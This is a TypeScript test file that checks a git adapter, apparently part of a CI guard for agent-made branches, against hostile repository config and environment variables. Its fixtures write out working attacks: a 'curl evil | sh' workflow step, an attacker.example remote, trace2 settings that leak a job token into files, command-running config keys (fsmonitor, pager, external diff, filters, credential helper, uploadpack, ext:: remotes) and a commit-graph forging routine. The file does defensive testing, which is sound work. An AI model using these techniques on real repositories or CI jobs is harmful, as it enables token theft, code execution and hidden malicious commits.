// The fixed environment and arguments of every git process: hostile repository files and config,
// and whatever an earlier step put into the environment, cannot change what git reports or make it
// run code, write files or leak the job's secrets.

import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, unlinkSync, writeFileSync } from 'node:fs';
import { mkdir, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { computeChangeSet, type ChangeSet } from '../../../src/adapters/git/change-set.js';
import { commitInfo, patchId } from '../../../src/adapters/git/history.js';
import { GitError } from '../../../src/adapters/git/process.js';
import { currentBranch, defaultBranch, isShallow, mergeBase, readFileAtCommit, remoteUrl, resolveCommit } from '../../../src/adapters/git/reads.js';
import { makeTempDir, runGit, type TestRepo } from '../../support/git-repo.js';
import { byPath, changes, gitTestRepos } from '../../support/git-fixtures.js';

const { cleanups, repoWithBase } = gitTestRepos();

/**
 * main: b0 - b1 - b2 (base tip); agent: b0 - evil (new workflow) - docs (head). The true merge base is b0.
 * Returns the commits; the repository has `main` checked out.
 */
async function movedBase(): Promise<{ repo: TestRepo; b1: string; b2: string; evil: string; head: string; b0: string }> {
  const repo = await repoWithBase();
  const b0 = await repo.rev('main');
  await repo.write('.github/workflows/evil.yml', 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl evil | sh" } ] } }\n');
  const evil = await repo.commit('evil workflow');
  await repo.write('docs/notes.md', 'notes\n');
  const head = await repo.commit('docs only');
  await repo.checkout('main');
  await repo.write('b1.txt', '1\n');
  const b1 = await repo.commit('b1');
  await repo.write('b2.txt', '2\n');
  const b2 = await repo.commit('b2');
  return { repo, b0, b1, b2, evil, head };
}

describe('attack: repository files and config', () => {
  test('hostile repository config and environment cannot change the change set', async () => {
    const repo = await repoWithBase({ '.github/workflows/deploy.yml': 'on: push\n', 'docs/a.md': 'a\n' });
    await repo.mv('.github/workflows/deploy.yml', 'docs/deploy.md');
    await repo.write('docs/é.md', 'x\n');
    await repo.commit('change');
    const expected = await changes(repo);
    for (const [k, v] of [
      ['diff.renames', 'false'],
      ['diff.relative', 'true'],
      ['diff.noprefix', 'true'],
      ['core.quotePath', 'true'],
      ['diff.renameLimit', '1'],
      ['diff.external', 'false'],
      ['core.abbrev', '7'],
      ['color.diff', 'always'],
      // Case-insensitive and decomposing file systems' settings change nothing in a tree diff.
      ['core.ignorecase', 'true'],
      ['core.precomposeunicode', 'true'],
      ['core.commitGraph', 'true'],
    ] as const) {
      await repo.git('config', k, v);
    }
    expect(await changes(repo)).toEqual(expected);
    // From a subdirectory, paths are still repository-relative and complete.
    expect((await computeChangeSet(join(repo.dir, 'docs'), 'main', 'agent')).entries).toEqual(expected);
    // An inherited GIT_DIR pointing at another repository is ignored.
    const other = await repoWithBase();
    const saved = process.env.GIT_DIR;
    process.env.GIT_DIR = join(other.dir, '.git');
    try {
      expect(await changes(repo)).toEqual(expected);
    } finally {
      if (saved === undefined) delete process.env.GIT_DIR;
      else process.env.GIT_DIR = saved;
    }
  });

  test('replace refs cannot swap the head commit for a harmless one', async () => {
    const repo = await repoWithBase();
    await repo.write('.github/workflows/evil.yml', 'on: push\n');
    const evil = await repo.commit('evil');
    await repo.checkout('decoy', { create: true, from: 'main' });
    await repo.write('docs/ok.md', 'ok\n');
    const decoy = await repo.commit('decoy');
    await repo.git('replace', evil, decoy);
    // Plain git now shows the decoy for `agent`...
    expect(await repo.git('diff', '--name-only', 'main', 'agent')).toBe('docs/ok.md');
    // ...the adapter does not.
    expect((await changes(repo)).map((e) => e.path)).toEqual(['.github/workflows/evil.yml']);
  });

  test('a graft file in the checkout (info/grafts) cannot move the merge base onto the agent\'s commit', async () => {
    const { repo, b0, b2, evil, head } = await movedBase();
    // One line written by an earlier step: "the base tip's parent is the agent's evil commit".
    writeFileSync(join(repo.dir, '.git', 'info', 'grafts'), `${b2} ${evil}\n`);
    // Plain git believes it (even with --no-replace-objects): the merge base is the evil commit, and
    // the diff from it shows only the docs.
    expect((await repo.run(['--no-replace-objects', 'merge-base', 'main', 'agent'])).stdout.toString().trim()).toBe(evil);
    // Without its own graft file the adapter would too: the change set would be docs/notes.md alone.
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.mergeBase).toBe(b0);
    expect(cs.head).toBe(head);
    expect(byPath(cs.entries).map((e) => e.path)).toEqual(['.github/workflows/evil.yml', 'docs/notes.md']);
    expect(cs.warnings).toEqual([]);
    expect(await mergeBase(repo.dir, 'main', 'agent')).toBe(b0);
    // Approver independence reads the same history: the evil commit is in the range.
    expect((await commitInfo(repo.dir, { base: 'main', head: 'agent' })).commits.map((c) => c.sha)).toContain(evil);
  });

  test('a forged commit-graph file (parents cached outside the commits) cannot move the merge base', async () => {
    const { repo, b0, b1, evil } = await movedBase();
    await repo.git('commit-graph', 'write', '--reachable');
    forgeCommitGraphParent(join(repo.dir, '.git', 'objects', 'info', 'commit-graph'), b1, evil);
    // Plain git trusts the cache: b1's parent is now the evil commit, and so is the merge base.
    expect((await repo.git('merge-base', 'main', 'agent')).trim()).toBe(evil);
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.mergeBase).toBe(b0);
    expect(byPath(cs.entries).map((e) => e.path)).toEqual(['.github/workflows/evil.yml', 'docs/notes.md']);
  });
});

/** A fake value of the job's token: it must not reach any file a git process of ours can write. */
const FAKE_TOKEN = 'ghs_FakeInputToken0123456789abcdefABCDEF';

/** Files below `dir` (recursively) whose content holds `needle`. */
function filesContaining(dir: string, needle: string): string[] {
  const found: string[] = [];
  for (const name of readdirSync(dir)) {
    const path = join(dir, name);
    const s = statSync(path);
    if (s.isDirectory()) found.push(...filesContaining(path, needle));
    else if (s.isFile() && readFileSync(path).includes(needle)) found.push(path);
  }
  return found;
}

/** Run `fn` with these variables in process.env (undefined: removed), as an earlier step's GITHUB_ENV would leave them. */
async function withParentEnv<T>(vars: Record<string, string | undefined>, fn: () => Promise<T>): Promise<T> {
  const saved = new Map(Object.keys(vars).map((k) => [k, process.env[k]]));
  for (const [k, v] of Object.entries(vars)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
  try {
    return await fn();
  } finally {
    for (const [k, v] of saved) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  }
}

/** git as a program that passes its whole environment on would run it: the control that shows an attack is live. */
function plainGit(cwd: string, args: string[], input?: string): { stdout: string; status: number | null } {
  const r = spawnSync('git', args, { cwd, env: process.env, input: input ?? '', encoding: 'utf8' });
  return { stdout: r.stdout, status: r.status };
}

/** Every read of the adapter on `repo` (main..agent), so that every kind of git process runs. */
async function everyRead(repo: TestRepo): Promise<ChangeSet> {
  const cs = await computeChangeSet(repo.dir, 'main', 'agent');
  await mergeBase(repo.dir, 'main', 'agent');
  await resolveCommit(repo.dir, 'agent');
  await isShallow(repo.dir);
  await readFileAtCommit(repo.dir, 'main', 'README.md');
  await currentBranch(repo.dir);
  await defaultBranch(repo.dir);
  await remoteUrl(repo.dir);
  await commitInfo(repo.dir, { base: cs.mergeBase, head: cs.head });
  await patchId(repo.dir, cs.mergeBase, cs.head);
  return cs;
}

describe('attack: child environment', () => {
  /** A change on `agent` (a new workflow, a rename, a symlink) and a scratch directory for the attacker's files. */
  async function target(): Promise<{ repo: TestRepo; expected: ChangeSet; scratch: string }> {
    const repo = await repoWithBase({ 'docs/a.md': 'a\n', 'docs/old.md': 'old\n' });
    await repo.write('.github/workflows/x.yml', 'on: push\n');
    await repo.mv('docs/old.md', 'docs/new.md');
    await repo.symlink('docs/link.md', 'a.md');
    await repo.commit('agent change');
    const expected = await everyRead(repo);
    const scratch = makeTempDir('agent-guard-attacker-');
    cleanups.push(() => rm(scratch, { recursive: true, force: true }));
    return { repo, expected, scratch };
  }

  /** Nothing was written into the scratch directory besides `keep`, and the token is in no file there or in the repository. */
  function expectNoTrace(repo: TestRepo, scratch: string, keep: string[]): void {
    expect(readdirSync(scratch).filter((n) => !keep.includes(n))).toEqual([]);
    expect(filesContaining(scratch, FAKE_TOKEN)).toEqual([]);
    expect(filesContaining(repo.dir, FAKE_TOKEN)).toEqual([]);
  }

  test('GIT_TRACE2_EVENT, GIT_TRACE2_ENV_VARS and GIT_TRACE from GITHUB_ENV write nothing, and the INPUT_* token reaches no file', async () => {
    const { repo, expected, scratch } = await target();
    const attack = {
      INPUT_GITHUB_TOKEN: FAKE_TOKEN,
      GIT_TRACE2_EVENT: join(scratch, 'event'),
      GIT_TRACE2_ENV_VARS: 'INPUT_GITHUB_TOKEN',
      GIT_TRACE2: join(scratch, 'normal'),
      GIT_TRACE2_PERF: join(scratch, 'perf'),
      GIT_TRACE: join(scratch, 'trace'),
      GIT_TRACE_SETUP: join(scratch, 'setup'),
    };
    await withParentEnv(attack, async () => {
      // Live: git given the parent's environment writes the token into the event file.
      plainGit(repo.dir, ['rev-parse', 'HEAD']);
      expect(filesContaining(scratch, FAKE_TOKEN)).toContain(join(scratch, 'event'));
      for (const name of readdirSync(scratch)) unlinkSync(join(scratch, name));

      expect(await everyRead(repo)).toEqual(expected);
    });
    expectNoTrace(repo, scratch, []);
  });

  test('GIT_CONFIG_COUNT and GIT_CONFIG_PARAMETERS entries (trace2 targets, core.commitGraph, a remote URL) neither trace, move the merge base nor change a read', async () => {
    const { repo, b0, b1, evil } = await movedBase();
    await repo.checkout('agent');
    await repo.git('commit-graph', 'write', '--reachable');
    forgeCommitGraphParent(join(repo.dir, '.git', 'objects', 'info', 'commit-graph'), b1, evil);
    const expected = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(expected.mergeBase).toBe(b0);
    const scratch = makeTempDir('agent-guard-attacker-');
    cleanups.push(() => rm(scratch, { recursive: true, force: true }));
    const attack = {
      INPUT_GITHUB_TOKEN: FAKE_TOKEN,
      GIT_CONFIG_COUNT: '4',
      GIT_CONFIG_KEY_0: 'trace2.eventTarget',
      GIT_CONFIG_VALUE_0: join(scratch, 'event'),
      GIT_CONFIG_KEY_1: 'trace2.envVars',
      GIT_CONFIG_VALUE_1: 'INPUT_GITHUB_TOKEN',
      GIT_CONFIG_KEY_2: 'core.commitGraph',
      GIT_CONFIG_VALUE_2: 'true',
      GIT_CONFIG_KEY_3: 'remote.origin.url',
      GIT_CONFIG_VALUE_3: 'https://attacker.example/evil.git',
      GIT_CONFIG_PARAMETERS: "'core.commitgraph'='true'",
    };
    await withParentEnv(attack, async () => {
      // Live: git reads the entries, and trusts the forged graph.
      expect(plainGit(repo.dir, ['config', '--get', 'core.commitGraph']).stdout.trim()).toBe('true');
      expect(plainGit(repo.dir, ['merge-base', 'main', 'agent']).stdout.trim()).toBe(evil);
      expect(plainGit(repo.dir, ['config', '--get', 'remote.origin.url']).stdout.trim()).toBe('https://attacker.example/evil.git');
      expect(await remoteUrl(repo.dir)).toBeNull();
      const cs = await computeChangeSet(repo.dir, 'main', 'agent');
      expect(cs).toEqual(expected);
      expect(await mergeBase(repo.dir, 'main', 'agent')).toBe(b0);
      expect((await commitInfo(repo.dir, { base: 'main', head: 'agent' })).commits.map((c) => c.sha)).toContain(evil);
    });
    expectNoTrace(repo, scratch, []);
  });

  test('GIT_CONFIG_GLOBAL and GIT_CONFIG_SYSTEM pointing at config with trace2 targets and includes write nothing and run nothing', async () => {
    const { repo, expected, scratch } = await target();
    const marker = join(scratch, 'ran');
    writeFileSync(
      join(scratch, 'included.gitconfig'),
      `[trace2]\n\teventTarget = ${join(scratch, 'event-included')}\n\tenvVars = INPUT_GITHUB_TOKEN\n[core]\n\tfsmonitor = touch ${marker}\n\tcommitGraph = true\n`,
    );
    writeFileSync(
      join(scratch, 'evil.gitconfig'),
      `[include]\n\tpath = ${join(scratch, 'included.gitconfig')}\n[trace2]\n\teventTarget = ${join(scratch, 'event')}\n\tenvVars = INPUT_GITHUB_TOKEN\n[diff]\n\texternal = touch ${marker}\n[core]\n\tpager = touch ${marker}\n`,
    );
    const attack = {
      INPUT_GITHUB_TOKEN: FAKE_TOKEN,
      GIT_CONFIG_GLOBAL: join(scratch, 'evil.gitconfig'),
      GIT_CONFIG_SYSTEM: join(scratch, 'evil.gitconfig'),
      GIT_CONFIG_NOSYSTEM: '0',
    };
    await withParentEnv(attack, async () => {
      // Live: git given the parent's environment reads the file and writes the token into its trace.
      plainGit(repo.dir, ['rev-parse', 'HEAD']);
      expect(filesContaining(scratch, FAKE_TOKEN).length).toBeGreaterThan(0);
      for (const name of ['event', 'event-included']) if (existsSync(join(scratch, name))) unlinkSync(join(scratch, name));

      expect(await everyRead(repo)).toEqual(expected);
    });
    expectNoTrace(repo, scratch, ['evil.gitconfig', 'included.gitconfig']);
  });

  test('a HOME (and XDG_CONFIG_HOME) with a .gitconfig that traces is not read', async () => {
    const { repo, expected, scratch } = await target();
    const config = `[trace2]\n\teventTarget = ${join(scratch, 'event')}\n\tenvVars = INPUT_GITHUB_TOKEN\n`;
    mkdirSync(join(scratch, 'home', '.config', 'git'), { recursive: true });
    writeFileSync(join(scratch, 'home', '.gitconfig'), config);
    writeFileSync(join(scratch, 'home', '.config', 'git', 'config'), config);
    writeFileSync(join(scratch, 'home', '.config', 'git', 'attributes'), '* -diff\n');
    const attack = {
      INPUT_GITHUB_TOKEN: FAKE_TOKEN,
      HOME: join(scratch, 'home'),
      XDG_CONFIG_HOME: join(scratch, 'home', '.config'),
      GIT_CONFIG_GLOBAL: undefined,
      GIT_CONFIG_NOSYSTEM: '1',
    };
    await withParentEnv(attack, async () => {
      plainGit(repo.dir, ['rev-parse', 'HEAD']);
      expect(filesContaining(scratch, FAKE_TOKEN)).toEqual([join(scratch, 'event')]);
      unlinkSync(join(scratch, 'event'));

      expect(await everyRead(repo)).toEqual(expected);
    });
    expectNoTrace(repo, scratch, ['home']);
  });

  test('GIT_DIR, GIT_OBJECT_DIRECTORY, GIT_INDEX_FILE, GIT_EXEC_PATH, GIT_SSH_COMMAND and proxies from the parent change nothing', async () => {
    const { repo, expected, scratch } = await target();
    const other = await repoWithBase({ 'docs/harmless.md': 'ok\n' });
    const attack = {
      INPUT_GITHUB_TOKEN: FAKE_TOKEN,
      GIT_DIR: join(other.dir, '.git'),
      GIT_WORK_TREE: other.dir,
      GIT_OBJECT_DIRECTORY: join(other.dir, '.git', 'objects'),
      GIT_INDEX_FILE: join(scratch, 'index'),
      GIT_NAMESPACE: 'evil',
      GIT_EXEC_PATH: scratch,
      GIT_SSH_COMMAND: `touch ${join(scratch, 'ran')}`,
      GIT_ASKPASS: `touch ${join(scratch, 'ran')}`,
      HTTPS_PROXY: 'http://127.0.0.1:9',
      ALL_PROXY: 'http://127.0.0.1:9',
    };
    await withParentEnv(attack, async () => {
      expect(await everyRead(repo)).toEqual(expected);
    });
    expectNoTrace(repo, scratch, []);
  });

  test('a repository config that includes trace2, fsmonitor, pager, external diff, textconv, filter, gpg and hook settings runs nothing and writes nothing', async () => {
    const { repo, scratch } = await target();
    const marker = join(scratch, 'ran');
    const run = `touch ${marker}`;
    mkdirSync(join(scratch, 'hooks'));
    for (const hook of ['post-checkout', 'post-index-change', 'reference-transaction', 'pre-auto-gc', 'post-merge']) {
      writeFileSync(join(scratch, 'hooks', hook), `#!/bin/sh\n${run}\n`, { mode: 0o755 });
    }
    // An earlier step writes the include into .git/config and the included file wherever it likes.
    writeFileSync(
      join(scratch, 'included.gitconfig'),
      [
        '[trace2]',
        `\teventTarget = ${join(scratch, 'event')}`,
        '\tenvVars = INPUT_GITHUB_TOKEN',
        '[core]',
        `\tfsmonitor = ${run}`,
        `\tpager = ${run}`,
        `\thooksPath = ${join(scratch, 'hooks')}`,
        `\tsshCommand = ${run}`,
        '\tcommitGraph = true',
        '[diff]',
        `\texternal = ${run}`,
        '[diff "evil"]',
        `\ttextconv = ${run}`,
        `\tcommand = ${run}`,
        '[filter "evil"]',
        `\tclean = ${run}`,
        `\tsmudge = ${run}`,
        `\tprocess = ${run}`,
        '[gpg]',
        `\tprogram = ${run}`,
        '[log]',
        '\tshowSignature = true',
        '[credential]',
        `\thelper = !${run}`,
        '[gc]',
        '\tauto = 1',
        '',
      ].join('\n'),
    );
    await repo.git('config', 'include.path', join(scratch, 'included.gitconfig'));
    await repo.git('config', `includeIf.gitdir:${repo.dir}/.path`, join(scratch, 'included.gitconfig'));
    writeFileSync(join(repo.dir, '.git', 'info', 'attributes'), '* diff=evil filter=evil\n');
    // Live: porcelain git runs the commands (fsmonitor, the external diff).
    plainGit(repo.dir, ['status']);
    plainGit(repo.dir, ['diff', 'main', 'agent']);
    expect(existsSync(marker)).toBe(true);
    unlinkSync(marker);

    const cs = await withParentEnv({ INPUT_GITHUB_TOKEN: FAKE_TOKEN }, () => everyRead(repo));
    expect(byPath(cs.entries).map((e) => e.path)).toEqual(['.github/workflows/x.yml', 'docs/link.md', 'docs/new.md']);
    expect(existsSync(marker)).toBe(false);
    expectNoTrace(repo, scratch, ['hooks', 'included.gitconfig']);
  });

  test('a promisor remote written into .git/config cannot fetch a missing object through a command of its choice', async () => {
    const { repo, scratch } = await target();
    const source = await repoWithBase({ '.github/workflows/x.yml': 'on: push\n' });
    const blob = (await repo.git('rev-parse', 'agent:.github/workflows/x.yml')).trim();
    unlinkSync(join(repo.dir, '.git', 'objects', blob.slice(0, 2), blob.slice(2)));
    const marker = join(scratch, 'ran');
    await repo.git('config', 'core.repositoryFormatVersion', '1');
    await repo.git('config', 'extensions.partialClone', 'evil');
    await repo.git('config', 'remote.evil.promisor', 'true');
    await repo.git('config', 'remote.evil.url', source.dir);
    await repo.git('config', 'remote.evil.uploadpack', `touch ${marker}; git-upload-pack`);
    await repo.git('config', 'protocol.allow', 'always');
    await repo.git('config', 'protocol.file.allow', 'always');

    await withParentEnv({ INPUT_GITHUB_TOKEN: FAKE_TOKEN }, async () => {
      await expect(computeChangeSet(repo.dir, 'main', 'agent')).rejects.toBeInstanceOf(GitError);
    });
    expect(existsSync(marker)).toBe(false);
    // An ext:: remote, allowed by the repository config, is refused as well.
    await repo.git('config', 'remote.evil.url', `ext::sh -c touch% ${marker}`);
    await repo.git('config', 'protocol.ext.allow', 'always');
    await expect(computeChangeSet(repo.dir, 'main', 'agent')).rejects.toBeInstanceOf(GitError);
    expect(existsSync(marker)).toBe(false);

    // Live: plain git runs the remote's command to fetch the object.
    await repo.git('config', 'remote.evil.url', source.dir);
    plainGit(repo.dir, ['cat-file', '--batch-check'], `${blob}\n`);
    expect(existsSync(marker)).toBe(true);
  });

  // Only root can give a directory to another user; elsewhere there is nothing to set up.
  if (process.getuid?.() === 0) {
    test('a work tree owned by another user is read when it is the directory given (global safe.directory is not read)', async () => {
      const { repo, expected } = await target();
      spawnSync('chown', ['-R', '12345:12345', repo.dir]);
      expect(plainGit(repo.dir, ['-c', 'safe.directory=', 'rev-parse', 'HEAD']).status).not.toBe(0);
      expect(await computeChangeSet(repo.dir, 'main', 'agent')).toEqual(expected);
      // A subdirectory is not marked safe: git checks the top level, and the hint says what to pass.
      const err = await computeChangeSet(join(repo.dir, 'docs'), 'main', 'agent').catch((e: unknown) => e);
      expect(err).toBeInstanceOf(GitError);
      expect((err as GitError).code).toBe('NOT_A_REPOSITORY');
      expect((err as GitError).hint).toMatch(/top-level directory/);
    });
  }
});

test('the test repository helper isolates git from the machine config', async () => {
  const dir = makeTempDir('agent-guard-iso-');
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  await mkdir(join(dir, 'r'));
  const r = await runGit(join(dir, 'r'), ['config', '--show-origin', '--list'], { allowFailure: true });
  expect(r.stdout.toString()).not.toMatch(/file:(\/etc\/gitconfig|.*\.gitconfig)/);
});

/**
 * Rewrite, in a commit-graph file, the first parent of `commit` to `parent` (both must be in the
 * graph). Format: 8-byte header (byte 6: chunk count), a table of (4-byte id, 8-byte offset) entries,
 * OIDL (sorted object ids) and CDAT (per commit: tree id, parent 1 index, parent 2 index, 8 bytes of
 * generation and date). git does not check the file's trailing hash when it loads it.
 */
function forgeCommitGraphParent(file: string, commit: string, parent: string): void {
  const data = readFileSync(file);
  const chunks = new Map<string, number>();
  for (let i = 0; i <= data[6]!; i++) chunks.set(data.toString('latin1', 8 + 12 * i, 12 + 12 * i), Number(data.readBigUInt64BE(12 + 12 * i)));
  const oidl = chunks.get('OIDL')!;
  const cdat = chunks.get('CDAT')!;
  const ids: string[] = [];
  for (let off = oidl; off < cdat; off += 20) ids.push(data.toString('hex', off, off + 20));
  const at = ids.indexOf(commit);
  const to = ids.indexOf(parent);
  if (at < 0 || to < 0) throw new Error('commit or parent not in the commit-graph');
  data.writeUInt32BE(to, cdat + at * 36 + 20);
  chmodSync(file, 0o644);
  writeFileSync(file, data);
}

